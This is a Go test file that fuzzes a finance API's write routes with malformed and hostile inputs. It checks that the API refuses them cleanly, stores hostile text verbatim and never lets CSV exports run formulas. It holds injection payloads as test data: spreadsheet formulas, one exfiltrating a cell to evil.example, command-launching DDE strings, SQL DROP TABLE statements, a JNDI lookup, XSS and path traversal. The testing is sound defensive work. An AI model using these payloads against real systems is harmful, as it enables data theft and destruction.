package routetest_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"net/url"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"

	"renofund/internal/httpapi/apitest"
	"renofund/internal/web"
)

// The hostile-input corpus is generated from the route table: every POST and
// PUT route gets its valid body (validBody) bent in every way below, so the
// corpus grows with the routes. Each case is one of two kinds:
//
//	refuse: malformed. The answer is 4xx with a stable code from API.md and
//	        a bare error body, and nothing is written (env.counts unchanged).
//	nasty:  valid but hostile text (formula prefixes, SQL metacharacters,
//	        homoglyphs, right-to-left marks): it may be accepted, in which case
//	        it is stored verbatim, or refused as above; never 5xx.
//
// After the corpus, every CSV the API serves is read back and no cell may
// start with a character a spreadsheet runs as a formula.

// stableCodes are the error codes API.md lists.
var stableCodes = map[string]bool{
	"invalid_request": true, "invalid_amount": true, "invalid_credit_code": true, "unauthenticated": true,
	"forbidden": true, "not_found": true, "conflict": true, "idempotency_key_reused": true, "already_reversed": true,
	"run_exists": true, "too_large": true, "insufficient_funds": true, "category_not_eligible": true,
	"fund_expired": true, "vote_failed": true, "rule_violation": true,
	"future_date": true, "before_arrival": true, "period_closed": true, "same_person": true, "approval_required": true,
	"period_status": true, "period_not_ended": true, "months_open": true,
	"over_progress_ceiling": true, "not_accepted": true, "over_settlement": true, "retention_held": true,
	"accounts_unbalanced": true, "project_closed": true,
	"budget_below_spent": true, "use_budget_amendment": true, "field_immutable": true, "over_household_share": true,
	"contract_overlap": true, "note_required": true,
	"attachment_bound":      true,
	"invalid_status_change": true, "plan_year_missing": true, "no_signed_contract": true, "contracts_not_accepted": true,
	"contracts_not_settled": true, "use_status_route": true,
	"bank_account_exists": true, "invalid_mapping": true, "xls_unsupported": true, "balance_break": true,
	"duplicate_statement": true, "already_matched": true, "already_unmatched": true, "not_in_reconciliation": true,
	"statement_without_balance": true, "month_outside_statement": true, "balances_disagree": true, "already_signed": true,
	"not_signed": true, "already_reviewed": true,
	"bulletin_exists": true,
}

// hostileCase is one request of the corpus, built afresh on the world when sent.
type hostileCase struct {
	name  string
	route string // "METHOD PATH" of the route table
	nasty bool   // valid but hostile: may be accepted, verbatim
	text  string // for a nasty case: the text that must come back verbatim when accepted
	key   string // the field that carried text, checked when the answer has it
	build func(w *world) *http.Request
}

// Text that a spreadsheet would run, and SQL that a careless query would.
var (
	formulaTexts = []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"点我")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"-1+1", "=1+1", "＝1+1", "=cmd|' /C notepad'!'A1'",
	}
	sqlTexts = []string{
		"'; DROP TABLE transfers; --", `" OR 1=1 --`, "x' OR '1'='1", "1; SELECT pg_sleep(5)--", `\'; DELETE FROM holdings; --`,
		"%_%", "Robert'); DROP TABLE projects;--",
	}
	oddTexts = []string{
		"Ηеllо Ꮃоrld",     // Greek and Cyrillic look-alikes
		"abc\u202edcba",   // right-to-left override
		"a\u200bb\ufeffc", // zero-width space and a BOM inside
		"𠀀𠀁😀 emoji", "\ufffd", `<script>alert(1)</script>`, "../../etc/passwd", "${jndi:ldap://evil/a}", "{{7*7}}",
	}
	// Text fields that must refuse control characters and overlong values.
	badTexts = []struct{ name, v string }{
		{"NUL", "a\x00b"}, {"bell", "a\x07b"}, {"escape sequence", "\x1b[31mred"}, {"newline", "a\nb"},
		{"carriage return", "a\rb"}, {"tab first", "\t=1+1"}, {"DEL", "a\x7fb"},
		{"64 KB", strings.Repeat("长", 64<<10/3)}, {"10 k ASCII", strings.Repeat("a", 10_000)},
	}
	// Values no code, reference, enum or date field may take.
	badCodes = []struct {
		name string
		v    any
	}{
		{"SQL drop", "'; DROP TABLE transfers; --"}, {"SQL or", `" OR 1=1 --`}, {"SQL quote", "HZ-001' OR '1'='1"},
		{"NUL", "HZ\x00-001"}, {"homoglyph", "НZ-001"}, {"zero-width", "HZ-001\u200b"}, {"path traversal", "../../etc/passwd"},
		{"LIKE wildcard", "HZ%"}, {"10 k", strings.Repeat("A", 10_000)}, {"leading space", " HZ-001"}, {"control", "HZ\x1b001"},
		{"lone surrogate escape", rawValue(`"\ud800"`)},
	}
	badDecimals = []string{"-1", "-0.01", "NaN", "Infinity", "-Infinity", "1e400", "99999999999999999999999999999999", "0x10", "1,000", "１", "1.2.3", "--1", "+-1"}
	badDates    = []string{"2026-02-30", "2026-13-01", "0000-00-00", "2026-3-1", "2026-03-01T00:00:00Z", "99999-01-01", "-2026-01-01", "2026/03/01", "昨天"}
)

// textKeys are the free-text fields: anything else that holds a string is
// a code, a reference, an enum, a date or a decimal.
var textKeys = map[string]bool{
	"name": true, "purpose": true, "reason": true, "note": true, "memo": true, "document_no": true, "description": true,
	"reference": true, "budget_subject": true, "bank_account": true, "voucher_no": true, "household": true, "force_reason": true,
	"role": true, "defects": true, "terms": true, "tender_ref": true, "review_ref": true,
	"bank": true,
}

// scoreKeys accept a number or a numeric string.
var scoreKeys = map[string]bool{"score": true, "min_score": true, "below": true, "from": true}

var (
	decimalRE = regexp.MustCompile(`^[0-9]+(\.[0-9]+)?$`)
	dateRE    = regexp.MustCompile(`^[0-9]{4}-[0-9]{2}-[0-9]{2}$`)
)

// request builds a request as who ("" for no token) with body sent as is.
func (w *world) request(who, method, path string, body []byte, headers ...string) *http.Request {
	req := httptest.NewRequest(method, path, bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if who != "" {
		req.Header.Set("Authorization", "Bearer "+w.Tok[who])
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	return req
}

// jsonClone turns a body into plain JSON values (map[string]any, []any, …).
func jsonClone(v any) any {
	b, _ := json.Marshal(v)
	var out any
	d := json.NewDecoder(bytes.NewReader(b))
	d.UseNumber()
	_ = d.Decode(&out)
	return out
}

// jsonLeaf is a place in a JSON body: the keys (and array index 0) leading to it.
type jsonLeaf struct {
	path []any // string keys and int indexes
	key  string
	v    any
}

func jsonLeaves(v any, path []any, key string, out *[]jsonLeaf) {
	if len(path) > 0 {
		*out = append(*out, jsonLeaf{slices.Clone(path), key, v})
	}
	switch x := v.(type) {
	case map[string]any:
		ks := make([]string, 0, len(x))
		for k := range x {
			ks = append(ks, k)
		}
		sort.Strings(ks)
		for _, k := range ks {
			jsonLeaves(x[k], append(path, k), k, out)
		}
	case []any:
		if len(x) > 0 {
			jsonLeaves(x[0], append(path, 0), key, out)
		}
	}
}

// setAt returns a copy of body with the value at path replaced by v.
func setAt(body any, path []any, v any) any {
	c := jsonClone(body)
	var cur any = c
	for i, p := range path {
		last := i == len(path)-1
		switch k := p.(type) {
		case string:
			m := cur.(map[string]any)
			if last {
				m[k] = v
			}
			cur = m[k]
		case int:
			a := cur.([]any)
			if last {
				a[k] = v
			}
			cur = a[k]
		}
	}
	return c
}

func pathName(path []any) string {
	var b strings.Builder
	for _, p := range path {
		switch k := p.(type) {
		case string:
			if b.Len() > 0 {
				b.WriteByte('.')
			}
			b.WriteString(k)
		case int:
			fmt.Fprintf(&b, "[%d]", k)
		}
	}
	return b.String()
}

// rawValue is a JSON fragment put into a body as is.
type rawValue string

func (r rawValue) MarshalJSON() ([]byte, error) { return []byte(r), nil }

func jsonBytes(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// hostileCorpus generates the cases for every POST and PUT route of the table.
func hostileCorpus(routes []apitest.RouteInfo, ids worldIDs) []hostileCase {
	var cases []hostileCase
	n := 1000
	bigNames := 0
	for _, ri := range routes {
		if ri.Method != http.MethodPost && ri.Method != http.MethodPut {
			continue
		}
		ri := ri
		key := ri.Method + " " + ri.Path
		sample, ok := ids.validBody(key, "HZ", 0)
		if !ok {
			continue // reported by TestAccessRulesCoverRouteTable
		}
		add := func(name string, nasty bool, text string, build func(w *world) *http.Request) {
			cases = append(cases, hostileCase{name: key + ": " + name, route: key, nasty: nasty, text: text, build: build})
		}
		addField := func(field, name string, nasty bool, text string, build func(w *world) *http.Request) {
			cases = append(cases, hostileCase{name: key + ": " + name, route: key, nasty: nasty, text: text, key: field, build: build})
		}
		// path is the route's path on HZ's objects.
		path := func(w *world) string {
			p, err := w.path(ri, "HZ", 0)
			if err != nil {
				panic(err)
			}
			return p
		}
		// Path parameters: every route that names an object.
		if strings.Contains(ri.Path, "/:") {
			for _, bad := range []struct{ name, seg string }{
				{"SQL in the path", url.PathEscape("'; DROP TABLE transfers; --")}, {"OR 1=1 in the path", url.PathEscape(`" OR 1=1 --`)},
				{"traversal in the path", "..%2F..%2Fetc%2Fpasswd"}, {"NUL in the path", "%00"}, {"NUL inside the path", "HZ-001%00"},
				{"invalid UTF-8 in the path", "%FF%FE"}, {"overlong UTF-8 in the path", "%C0%AF"}, {"10 k path segment", strings.Repeat("a", 10_000)},
				{"homoglyph in the path", url.PathEscape("НZ-001")}, {"right-to-left mark in the path", "%E2%80%AEHZ"},
			} {
				add(bad.name, false, "", func(w *world) *http.Request {
					segs := strings.Split(path(w), "/")
					for i, s := range strings.Split(ri.Path, "/") {
						if strings.HasPrefix(s, ":") {
							segs[i] = bad.seg
						}
					}
					var body []byte
					switch b := sample.(type) {
					case nil:
					case rawBody:
						body = []byte(b.body)
					default:
						body = jsonBytes(b)
					}
					return w.request("finance", ri.Method, strings.Join(segs, "/"), body)
				})
			}
		}
		switch sample.(type) {
		case nil:
			continue // no body: only the path can be hostile
		case rawBody:
			cases = append(cases, rawCases(ri, key, path, ids)...)
			continue
		}
		fresh := func() any { n++; b, _ := ids.validBody(key, "HZ", n); return jsonClone(b) }
		send := func(w *world, body []byte, headers ...string) *http.Request {
			return w.request("finance", ri.Method, path(w), body, headers...)
		}
		valid := jsonBytes(sample)
		firstKey := ""
		var firstVal []byte
		for _, l := range func() []jsonLeaf { var ls []jsonLeaf; jsonLeaves(jsonClone(sample), nil, "", &ls); return ls }() {
			if len(l.path) == 1 {
				firstKey, firstVal = l.key, jsonBytes(l.v)
				break
			}
		}
		deep := func(n int, open, close string) string { return strings.Repeat(open, n) + strings.Repeat(close, n) }
		structural := []struct {
			name string
			body func() []byte
			hdr  []string
		}{
			{"empty body", func() []byte { return nil }, nil},
			{"whitespace only", func() []byte { return []byte(" \n\t ") }, nil},
			{"null", func() []byte { return []byte("null") }, nil},
			{"empty array", func() []byte { return []byte("[]") }, nil},
			{"array of the body", func() []byte { return []byte("[" + string(valid) + "]") }, nil},
			{"string", func() []byte { return []byte(`"hello"`) }, nil},
			{"huge number", func() []byte { return []byte("1e400") }, nil},
			{"huge integer", func() []byte { return []byte("99999999999999999999") }, nil},
			{"true", func() []byte { return []byte("true") }, nil},
			{"truncated", func() []byte { return valid[:len(valid)-1] }, nil},
			{"trailing garbage", func() []byte { return append(slices.Clone(valid), " x"...) }, nil},
			{"two objects", func() []byte { return append(slices.Clone(valid), valid...) }, nil},
			{"trailing comma", func() []byte { return []byte(string(valid[:len(valid)-1]) + ",}") }, nil},
			{"single quotes", func() []byte { return bytes.ReplaceAll(valid, []byte(`"`), []byte(`'`)) }, nil},
			{"comment", func() []byte { return append([]byte("/* x */"), valid...) }, nil},
			{"NUL before the body", func() []byte { return append([]byte{0}, valid...) }, nil},
			{"byte-order mark", func() []byte { return append([]byte("\xef\xbb\xbf"), valid...) }, nil},
			{"invalid UTF-8 in a key", func() []byte { return bytes.Replace(valid, []byte(`{"`), []byte("{\"\xff"), 1) }, nil},
			{"invalid UTF-8 in a value", func() []byte { return bytes.Replace(valid, []byte(`":"`), []byte("\":\"\xff\xfe"), 1) }, nil},
			{"overlong UTF-8", func() []byte { return bytes.Replace(valid, []byte(`":"`), []byte("\":\"\xc0\xaf"), 1) }, nil},
			{"UTF-8 surrogate", func() []byte { return bytes.Replace(valid, []byte(`":"`), []byte("\":\"\xed\xa0\x80"), 1) }, nil},
			{"raw newline in a string", func() []byte { return bytes.Replace(valid, []byte(`":"`), []byte("\":\"\n"), 1) }, nil},
			{"1000 nested arrays", func() []byte { return []byte(deep(1000, "[", "]")) }, nil},
			{"1000 nested objects", func() []byte { return []byte(strings.Repeat(`{"a":`, 1000) + "1" + strings.Repeat("}", 1000)) }, nil},
			{"1000 nested arrays in a field", func() []byte {
				return []byte(string(valid[:len(valid)-1]) + `,"deep":` + deep(1000, "[", "]") + "}")
			}, nil},
			{"33 nested arrays in a field", func() []byte {
				return []byte(string(valid[:len(valid)-1]) + `,"deep":` + deep(33, "[", "]") + "}")
			}, nil},
			{"duplicate key", func() []byte { return []byte(`{"` + firstKey + `":` + string(firstVal) + "," + string(valid[1:])) }, nil},
			{"duplicate key in another case", func() []byte {
				return []byte(string(valid[:len(valid)-1]) + `,"` + strings.ToUpper(firstKey) + `":` + string(firstVal) + "}")
			}, nil},
			{"unknown field", func() []byte { return []byte(string(valid[:len(valid)-1]) + `,"is_admin":true}`) }, nil},
			{"__proto__ field", func() []byte { return []byte(string(valid[:len(valid)-1]) + `,"__proto__":{"admin":true}}`) }, nil},
			{"100 k key", func() []byte {
				return []byte(string(valid[:len(valid)-1]) + `,"` + strings.Repeat("k", 100_000) + `":1}`)
			}, nil},
			{"NaN literal", func() []byte { return []byte(`{"` + firstKey + `":NaN}`) }, nil},
			{"Infinity literal", func() []byte { return []byte(`{"` + firstKey + `":Infinity}`) }, nil},
			{"hexadecimal literal", func() []byte { return []byte(`{"` + firstKey + `":0x10}`) }, nil},
			{"XML", func() []byte { return []byte(`<?xml version="1.0"?><district><code>X</code></district>`) }, []string{"Content-Type", "application/xml"}},
			{"form encoding", func() []byte { return []byte("code=X&name=Y") }, []string{"Content-Type", "application/x-www-form-urlencoded"}},
			{"over-long Idempotency-Key", func() []byte { return jsonBytes(fresh()) }, []string{"Idempotency-Key", strings.Repeat("k", 129)}},
		}
		for _, s := range structural {
			add(s.name, false, "", func(w *world) *http.Request { return send(w, s.body(), s.hdr...) })
		}
		limit := int64(web.MaxBody)
		if ri.MaxBody > 0 {
			limit = ri.MaxBody
		}
		add(fmt.Sprintf("body over %d bytes", limit), false, "", func(w *world) *http.Request {
			return send(w, padBody(jsonBytes(sample), int(limit)+1))
		})
		add(fmt.Sprintf("body over %d bytes without Content-Length", limit), false, "", func(w *world) *http.Request {
			req := send(w, nil)
			req.Body = io.NopCloser(io.MultiReader(bytes.NewReader(padBody(jsonBytes(sample), int(limit)+1))))
			req.ContentLength = -1
			return req
		})

		// Field by field. The first field of each kind in a route gets every
		// bad value of its kind, later ones a rotating share, so that every
		// value is tried somewhere without the corpus growing quadratically.
		var ls []jsonLeaf
		jsonLeaves(jsonClone(sample), nil, "", &ls)
		seen := map[string]int{}
		for _, l := range ls {
			l := l
			at := pathName(l.path)
			put := func(name string, nasty bool, text string, v any) {
				addField(l.key, at+" "+name, nasty, text, func(w *world) *http.Request { return send(w, jsonBytes(setAt(fresh(), l.path, v))) })
			}
			kind := fmt.Sprintf("%T", l.v)
			if s, ok := l.v.(string); ok {
				switch {
				case textKeys[l.key]:
					kind = "text"
				case dateRE.MatchString(s):
					kind = "date"
				case decimalRE.MatchString(s):
					kind = "decimal"
				default:
					kind = "code"
				}
			}
			i := seen[kind]
			seen[kind]++
			// Shapes no field takes: the wrong kind of JSON value.
			switch v := l.v.(type) {
			case map[string]any:
				put("as a string", false, "", "x")
				put("as an array", false, "", []any{})
				put("as a number", false, "", 1)
				put("with an unknown field", false, "", func() any { c := jsonClone(v).(map[string]any); c["injected"] = 1; return c }())
			case []any:
				put("as a string", false, "", "x")
				put("as an object", false, "", map[string]any{})
				put("as a number", false, "", 1)
				put("holding a number", false, "", []any{1})
				put("holding arrays", false, "", []any{[]any{}})
			case bool:
				put("as a string", false, "", "true")
				put("as a number", false, "", 1)
				put("as an object", false, "", map[string]any{})
			case json.Number:
				bad := []struct {
					name string
					v    any
				}{{"as an object", map[string]any{}}, {"as an array", []any{}}, {"as 1e400", rawValue("1e400")},
					{"as 99999999999999999999", rawValue("99999999999999999999")}, {"as true", true}, {"negative", rawValue("-1")}}
				if scoreKeys[l.key] {
					bad = append(bad, struct {
						name string
						v    any
					}{"above 100", rawValue("100.01")})
				} else {
					bad = append(bad, struct {
						name string
						v    any
					}{"as a string", string(v)}, struct {
						name string
						v    any
					}{"with decimals", rawValue("1.5")})
				}
				for _, b := range rotating(bad, i, 3) {
					put(b.name, false, "", b.v)
				}
			case string:
				shapes := []struct {
					name string
					v    any
				}{{"as an object", map[string]any{}}, {"as an array", []any{v}}, {"as 1e400", rawValue("1e400")}, {"as true", true}}
				for _, b := range rotating(shapes, i, 2) {
					put(b.name, false, "", b.v)
				}
				switch kind {
				case "text":
					for _, b := range rotating(badTexts, i, 3) {
						put(b.name, false, "", b.v)
					}
					if i == 0 && l.key == "name" && len(l.path) == 1 && bigNames < 3 {
						// A name of 1 MB that still fits the body limit: refused by length (slow under -race, so a few routes only).
						bigNames++
						put("1 MB", false, "", strings.Repeat("长", 1<<20/3-200))
					}
					for _, s := range rotating(slices.Concat(formulaTexts, sqlTexts, oddTexts), i, 3) {
						put(fmt.Sprintf("%q", s), true, s, s)
					}
				case "date":
					for _, d := range rotating(badDates, i, 4) {
						put(fmt.Sprintf("date %q", d), false, "", d)
					}
				case "decimal":
					for _, d := range rotating(badDecimals, i, 4) {
						put(fmt.Sprintf("decimal %q", d), false, "", d)
					}
					if !scoreKeys[l.key] {
						put("as a JSON number", false, "", rawValue(v))
					}
				default:
					for _, b := range rotating(badCodes, i, 3) {
						put("code "+b.name, false, "", b.v)
					}
				}
			}
		}
	}
	return cases
}

// rotating returns all of list for the first field of a kind (i == 0) and k
// of its elements, rotating, for the i-th.
func rotating[T any](list []T, i, k int) []T {
	if i == 0 || k >= len(list) {
		return list
	}
	out := make([]T, 0, k)
	for j := range k {
		out = append(out, list[(i*k+j)%len(list)])
	}
	return out
}

// padBody makes body at least n bytes long by growing its first string value.
func padBody(body []byte, n int) []byte {
	i := bytes.Index(body, []byte(`":"`))
	if i < 0 {
		return append(body, bytes.Repeat([]byte(" "), n)...)
	}
	i += 3
	pad := bytes.Repeat([]byte("a"), n-len(body)+1)
	return slices.Concat(body[:i], pad, body[i:])
}

// rawCases are the hostile files for routes that take a file (CSV or XLSX).
func rawCases(ri apitest.RouteInfo, key string, path func(*world) string, ids worldIDs) []hostileCase {
	sample, _ := ids.validBody(key, "HZ", 0)
	rb := sample.(rawBody)
	var cases []hostileCase
	add := func(name string, nasty bool, text string, build func(w *world) *http.Request) {
		cases = append(cases, hostileCase{name: key + ": " + name, route: key, nasty: nasty, text: text, build: build})
	}
	file := func(name, query, ctype string, body []byte, nasty bool, text string) {
		add(name, nasty, text, func(w *world) *http.Request {
			q := rb.query
			if query != "" {
				if q == "" {
					q = "?" + query
				} else {
					q += "&" + query
				}
			}
			return w.request("finance", ri.Method, path(w)+q, body, "Content-Type", ctype)
		})
	}
	if strings.HasPrefix(rb.contentType, "multipart/") {
		cases = append(cases, formCases(ri, key, path)...)
	} else {
		lines := strings.SplitN(rb.body, "\n", 2)
		header, row := lines[0], strings.TrimSuffix(lines[1], "\n")
		cells := strings.Split(row, ",")
		withCell := func(i int, v string) []byte {
			c := slices.Clone(cells)
			c[i] = v
			var b bytes.Buffer
			cw := csv.NewWriter(&b)
			_ = cw.Write(strings.Split(header, ","))
			_ = cw.Write(c)
			cw.Flush()
			return b.Bytes()
		}
		for _, c := range []struct {
			name string
			body string
		}{
			{"empty file", ""}, {"header only, no lines", header + "\n"}, {"wrong header", "a,b,c,d\n" + row + "\n"},
			{"binary garbage", "\x00\x01\x02\xff\xfe\x89PNG\r\n"}, {"a broken workbook", "PK\x03\x04garbage that is not a zip"},
			{"unterminated quote", header + "\n\"" + row + "\n"}, {"too many columns", header + "\n" + row + ",extra,extra\n"},
			{"invalid UTF-8", header + "\n" + strings.Replace(row, ",", ",\xff\xfe", 1) + "\n"},
			{"UTF-16", "\xff\xfe" + strings.Join(strings.Split(header, ""), "\x00")},
			{"JSON instead of CSV", `{"date":"2026-03-01","amount":"1.00"}`},
		} {
			file(c.name, "", rb.contentType, []byte(c.body), false, "")
		}
		for i := range cells {
			for _, v := range []string{"1e400", "99999999999999999999", "NaN", "2026-02-30", "'; DROP TABLE transfers; --"} {
				if v == "'; DROP TABLE transfers; --" && !strings.Contains(header, "date") {
					continue // free text in an import row is the next loop's business
				}
				if strings.Split(header, ",")[i] == "reference" || strings.Split(header, ",")[i] == "counterparty" || strings.Split(header, ",")[i] == "payer_name" {
					continue
				}
				file(fmt.Sprintf("column %d as %q", i+1, v), "", rb.contentType, withCell(i, v), false, "")
			}
		}
		// Free text in the file: may be accepted, never 5xx.
		for i, h := range strings.Split(header, ",") {
			if h != "reference" && h != "counterparty" && h != "payer_name" {
				continue
			}
			for _, s := range slices.Concat(formulaTexts, sqlTexts) {
				file(fmt.Sprintf("%s %q", h, s), "", rb.contentType, withCell(i, s), true, "")
			}
			file(h+" with NUL", "", rb.contentType, withCell(i, "a\x00b"), true, "")
		}
	}
	// Query parameters.
	for _, q := range []string{"district=" + url.QueryEscape("'; DROP TABLE transfers; --"), "district=%00", "district=%FF",
		"window_days=abc", "window_days=-1", "window_days=99999999999999999999", "window_days=1e400",
		"format=pdf", "format=%00", "partial=" + url.QueryEscape("' OR 1=1")} {
		name, _, _ := strings.Cut(q, "=")
		if !slices.Contains(ri.Query, name) && !(key == "POST /v1/reconciliations" && (name == "district" || name == "window_days")) {
			continue
		}
		add("query "+q, q == "partial="+url.QueryEscape("' OR 1=1"), "", func(w *world) *http.Request {
			p := path(w) + "?" + q
			if name != "district" && rb.query != "" {
				p = path(w) + rb.query + "&" + q
			}
			return w.request("finance", ri.Method, p, []byte(rb.body), "Content-Type", rb.contentType)
		})
	}
	// Multipart forms gone wrong.
	form := func(fields map[string]string, files map[string]string) (string, []byte) {
		var b bytes.Buffer
		mw := multipart.NewWriter(&b)
		for k, v := range fields {
			_ = mw.WriteField(k, v)
		}
		for k, v := range files {
			fw, _ := mw.CreateFormFile(k, "f.csv")
			_, _ = fw.Write([]byte(v))
		}
		_ = mw.Close()
		return mw.FormDataContentType(), b.Bytes()
	}
	for _, f := range []struct {
		name   string
		fields map[string]string
		files  map[string]string
	}{
		{"form without a file", map[string]string{"district": "HZ"}, nil},
		{"form with the file in another field", map[string]string{"district": "HZ"}, map[string]string{"upload": rb.body}},
		{"form with an empty file", map[string]string{"district": "HZ"}, map[string]string{"file": ""}},
	} {
		add(f.name, false, "", func(w *world) *http.Request {
			ct, body := form(f.fields, f.files)
			return w.request("finance", ri.Method, path(w)+rb.query, body, "Content-Type", ct)
		})
	}
	add("multipart without a boundary", false, "", func(w *world) *http.Request {
		return w.request("finance", ri.Method, path(w)+rb.query, []byte(rb.body), "Content-Type", "multipart/form-data")
	})
	add("multipart with a wrong boundary", false, "", func(w *world) *http.Request {
		_, body := form(nil, map[string]string{"file": rb.body})
		return w.request("finance", ri.Method, path(w)+rb.query, body, "Content-Type", "multipart/form-data; boundary=nope")
	})
	add(fmt.Sprintf("declared body over %d bytes", ri.MaxBody), false, "", func(w *world) *http.Request {
		req := w.request("finance", ri.Method, path(w)+rb.query, nil, "Content-Type", rb.contentType)
		req.Body = io.NopCloser(io.LimitReader(zeroReader{}, ri.MaxBody+1))
		req.ContentLength = ri.MaxBody + 1
		return req
	})
	return cases
}

// formCases are the hostile forms for a document upload (a multipart form
// with a file, its subject and kind): each is refused with a 4xx, nothing
// written.
func formCases(ri apitest.RouteInfo, key string, path func(*world) string) []hostileCase {
	var cases []hostileCase
	field := func(mw *multipart.Writer, name, value string) {
		fw, _ := mw.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="` + name + `"`}})
		_, _ = fw.Write([]byte(value))
	}
	for _, c := range []struct {
		name                    string
		subject, kind, filename string
		files                   []string
		extra                   string
	}{
		{name: "subject missing", kind: "invoice", filename: "a.pdf", files: []string{"x"}},
		{name: "subject without an id", subject: "contract:", filename: "a.pdf", files: []string{"x"}},
		{name: "subject of an unknown kind", subject: "project:HZ-001", filename: "a.pdf", files: []string{"x"}},
		{name: "subject with SQL", subject: "contract:'; DROP TABLE transfers; --", filename: "a.pdf", files: []string{"x"}},
		{name: "subject of no one", subject: "transfer:no-such", filename: "a.pdf", files: []string{"x"}},
		{name: "subject with NUL", subject: "transfer:new\x00", filename: "a.pdf", files: []string{"x"}},
		{name: "unknown kind", subject: "transfer:new", kind: "selfie", filename: "a.pdf", files: []string{"x"}},
		{name: "file name with NUL", subject: "transfer:new", filename: "a\x00.pdf", files: []string{"x"}},
		{name: "file name of invalid UTF-8", subject: "transfer:new", filename: "\xff\xfe.pdf", files: []string{"x"}},
		{name: "file name of 300 characters", subject: "transfer:new", filename: strings.Repeat("文", 300), files: []string{"x"}},
		{name: "empty file", subject: "transfer:new", filename: "a.pdf", files: []string{""}},
		{name: "two files", subject: "transfer:new", filename: "a.pdf", files: []string{"x", "y"}},
		{name: "no file", subject: "transfer:new"},
		{name: "an unknown field", subject: "transfer:new", filename: "a.pdf", files: []string{"x"}, extra: "amount"},
	} {
		cases = append(cases, hostileCase{name: key + ": " + c.name, route: key, build: func(w *world) *http.Request {
			var b strings.Builder
			mw := multipart.NewWriter(&b)
			if c.subject != "" {
				field(mw, "subject", c.subject)
			}
			if c.kind != "" {
				field(mw, "kind", c.kind)
			}
			if c.extra != "" {
				field(mw, c.extra, "1.00")
			}
			for _, f := range c.files {
				fw, _ := mw.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="file"; filename="` + c.filename + `"`}})
				_, _ = fw.Write([]byte(f))
			}
			_ = mw.Close()
			return w.request("finance", ri.Method, path(w), []byte(b.String()), "Content-Type", mw.FormDataContentType())
		}})
	}
	return cases
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// TestHostileInput sends the corpus on both engines.
func TestHostileInput(t *testing.T) {
	t.Parallel()
	eachEnv(t, func(t *testing.T, e *env) {
		w := newWorld(t, e)
		cases := hostileCorpus(apitest.RouteTable(e.Srv), w.ids)
		refusals := 0
		for _, c := range cases {
			if !c.nasty {
				refusals++
			}
		}
		if refusals < 200 {
			t.Errorf("the corpus has %d malformed requests, want at least 200", refusals)
		}
		covered := map[string]int{}
		for _, c := range cases {
			covered[c.route]++
		}
		for _, ri := range apitest.RouteTable(e.Srv) {
			if (ri.Method == http.MethodPost || ri.Method == http.MethodPut) && covered[ri.Method+" "+ri.Path] == 0 {
				t.Errorf("no hostile case for %s %s", ri.Method, ri.Path)
			}
		}
		// Malformed requests first, checked for writes in chunks (one count
		// query per chunk: the embedded engine is slow under -race); a chunk
		// that wrote is sent again one request at a time to name the culprit.
		// Then the nasty ones, each checked on its own when refused.
		sort.SliceStable(cases, func(i, j int) bool { return !cases[i].nasty && cases[j].nasty })
		tally := map[string]int{}
		send := func(c hostileCase) response {
			r := w.Serve(c.build(w))
			tally[fmt.Sprintf("%d %s", r.Status, r.Code())]++
			if problem := judgeHostile(c, r); problem != "" {
				t.Errorf("%s: %s: %.300s", c.name, problem, r.Body)
			}
			return r
		}
		const chunk = 25
		for i := 0; i < refusals; i += chunk {
			part := cases[i:min(i+chunk, refusals)]
			before := w.counts()
			for _, c := range part {
				send(c)
			}
			if after := w.counts(); after != before {
				t.Errorf("a refused request wrote:\n before %s\n after  %s\nnaming it:", before, after)
				for _, c := range part {
					b := w.counts()
					r := w.Serve(c.build(w))
					if a := w.counts(); a != b {
						t.Errorf("  %s (answered %d) wrote:\n before %s\n after  %s", c.name, r.Status, b, a)
					}
				}
			}
		}
		before := w.counts()
		for _, c := range cases[refusals:] {
			r := send(c)
			after := w.counts()
			if r.Status >= 400 && after != before {
				t.Errorf("%s was refused (%d) but wrote:\n before %s\n after  %s", c.name, r.Status, before, after)
			}
			before = after
		}
		t.Logf("%d hostile requests (%d malformed, %d nasty but valid text); answers: %v; per route: %v", len(cases), refusals, len(cases)-refusals, tally, covered)
		checkCSVDefused(t, w)
		w.forT(t).checkBooks()
	})
}

// judgeHostile says what is wrong with the answer to c ("" if nothing).
func judgeHostile(c hostileCase, r response) string {
	if r.Status >= 500 {
		return fmt.Sprintf("status %d: a hostile request must never cause a server error", r.Status)
	}
	if c.nasty && r.Status/100 == 2 {
		if c.text != "" && hasKey(r.Body, c.key) && !containsString(r.Body, c.text) {
			return fmt.Sprintf("accepted, but %q does not come back verbatim", c.text)
		}
		return ""
	}
	if r.Status < 400 {
		return fmt.Sprintf("status %d: accepted a malformed request", r.Status)
	}
	if !stableCodes[r.Code()] {
		return fmt.Sprintf("status %d with code %q, not one of API.md's", r.Status, r.Code())
	}
	var m map[string]json.RawMessage
	if err := json.Unmarshal(r.Body, &m); err != nil || len(m) != 1 {
		return "the refusal is not a bare error object"
	}
	return ""
}

// hasKey reports whether the JSON document has a string under key anywhere.
func hasKey(doc []byte, key string) bool {
	var v any
	if json.Unmarshal(doc, &v) != nil {
		return false
	}
	var walk func(any) bool
	walk = func(v any) bool {
		switch x := v.(type) {
		case map[string]any:
			for k, e := range x {
				if _, ok := e.(string); ok && k == key {
					return true
				}
				if walk(e) {
					return true
				}
			}
		case []any:
			for _, e := range x {
				if walk(e) {
					return true
				}
			}
		}
		return false
	}
	return walk(v)
}

// containsString reports whether any string in the JSON document equals s.
func containsString(doc []byte, s string) bool {
	var v any
	if json.Unmarshal(doc, &v) != nil {
		return false
	}
	var walk func(any) bool
	walk = func(v any) bool {
		switch x := v.(type) {
		case string:
			return x == s
		case map[string]any:
			for _, e := range x {
				if walk(e) {
					return true
				}
			}
		case []any:
			for _, e := range x {
				if walk(e) {
					return true
				}
			}
		}
		return false
	}
	return walk(v)
}

